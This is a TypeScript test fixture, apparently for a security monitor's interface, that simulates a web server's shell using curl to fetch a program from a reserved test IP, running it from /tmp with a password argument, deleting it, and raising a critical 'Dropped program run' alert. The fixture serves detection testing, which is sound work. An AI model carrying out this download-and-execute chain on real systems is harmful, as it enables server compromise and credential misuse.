// A capture for the tests of the page: a server whose shell fetches a program, runs it, and removes it; with names that no page should take for
// its own.

import type { CapturedAlert } from '../../../host/captures/notes/capture-notes.ts';
import type { State } from '../../../host/captures/state/state.ts';
import { Story } from '../records/story.ts';
import { HOSTILE } from './page-story.ts';

export const CAPTURED_RULE = 'Dropped program run';

export interface CapturedStory {
  readonly bytes: Buffer;
  readonly alert: CapturedAlert;
}

export function capturedStory(): CapturedStory {
  const story = new Story()
    .snapshot(500, 1, 'nginx')
    .snapshot(510, 1, 'cron')
    .run(501, 500, 'sh -c fetch')
    .run(502, 501, ['curl', '--header', 'Authorization: Bearer geheim', 'http://192.0.2.7/x'])
    .connected(502, [192, 0, 2, 7], 80)
    .wrote(502, '/tmp/x')
    .exit(502)
    .wrote(501, `/tmp/${HOSTILE}`)
    .run(503, 501, '/tmp/x --password=geheim');
  const { now } = story;
  const alert: CapturedAlert = {
    rule: CAPTURED_RULE,
    priority: 'Critical',
    time: now,
    message: `run (command=/tmp/x --password=geheim name=${HOSTILE})`,
    tags: [],
    fields: {},
    pid: 503,
    container: 'host',
  };
  story
    .event(503, 'execve', { result: 0 })
    .connected(503, [192, 0, 2, 8], 443)
    .wrote(510, '/var/log/cron.log')
    .exit(503, 9)
    .exit(501);
  return { bytes: story.captured(alert, STATE), alert };
}

export const STATE: State = {
  taken: 1,
  milliseconds: 12,
  processes: [
    {
      ...{ pid: 503, vpid: 7, parent: 501, session: 501, name: 'x', status: 'S', started: 1 },
      ...{ arguments: ['/tmp/x', '--password=geheim'], environment: ['PATH', 'HOME'], directory: `/tmp/${HOSTILE}` },
      executable: { path: '/tmp/x', deleted: true, size: 9, inode: 3, sha256: 'ab'.repeat(32) },
      ...{ users: [33, 33, 33, 33], groups: [33, 33, 33, 33], supplementary: [] },
      capabilities: { effective: '0000000000000000', permitted: '0', bounding: '0' },
      ...{ noNewPrivileges: false, seccomp: 2, terminal: false },
      details: {
        descriptors: [
          { number: 1, target: '/dev/null', access: 'w' },
          {
            ...{ number: 3, target: 'socket:[1]', access: 'rw' },
            socket: { protocol: 'tcp', local: '10.0.0.2:4000', peer: '192.0.2.8:443', status: 'established' },
          },
        ],
        executableMaps: [],
      },
    },
  ],
  mounts: [],
  listening: [{ protocol: 'tcp', address: '0.0.0.0:80', pids: [500] }],
  missing: [],
};
